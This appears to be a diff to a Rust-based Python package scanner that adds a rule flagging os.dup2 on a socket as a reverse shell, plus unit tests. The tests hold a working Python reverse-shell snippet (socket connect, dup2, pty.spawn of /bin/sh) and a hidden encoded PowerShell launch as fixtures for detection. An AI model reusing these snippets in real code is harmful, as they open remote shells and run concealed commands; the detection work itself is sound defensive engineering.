@@ -69,8 +69,24 @@ pub fn is_shell_trick(command: &str) -> bool {
     SHELL_TRICK_COMMAND.is_match(command)
 }
 
+/// `os.dup2(sock.fileno(), 0)`: a socket wired to the standard streams is a reverse shell.
+fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
+    let Some(first) = call.arguments.args.first() else { return };
+    let source = checker.text.get(first.range().start().to_usize()..first.range().end().to_usize()).unwrap_or("");
+    let from_socket = checker.qualname(first).is_some_and(|q| q.starts_with("socket.") || q.contains("socket()"));
+    if !(source.contains("fileno") && (from_socket || call.arguments.args.get(1).is_some_and(|fd| matches!(checker.fold(fd), Some(crate::fold::Value::Int(0..=2)))))) {
+        return;
+    }
+    let severity = if checker.context() == ExecContext::TestOrDocs { 0.3 } else { 0.85 };
+    checker.report(&RULE, call.range(), "os.dup2 wires a socket to the standard streams: a reverse shell".to_owned(), severity, vec!["spawn", "reverse-shell"]);
+}
+
 /// Process-spawning calls.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if qualname == "os.dup2" {
+        check_reverse_shell(checker, call);
+        return;
+    }
     if !is_spawn(qualname) {
         return;
     }
@@ -183,6 +199,13 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
         let code = "from subprocess import Popen as P\nP(['powershell', '-w', 'hidden', '-enc', 'AAAA'])\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
+    }
+
+    #[test]
+    fn reverse_shell_is_severe() {
+        let code = "import socket, os, pty\ndef go():\n    s = socket.socket()\n    s.connect(('h', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.85);
+        assert_eq!(max_severity("p/pkg/m.py", "import os\nos.dup2(fd, 5)\n", "WH120"), 0.0);
     }
 
     #[test]
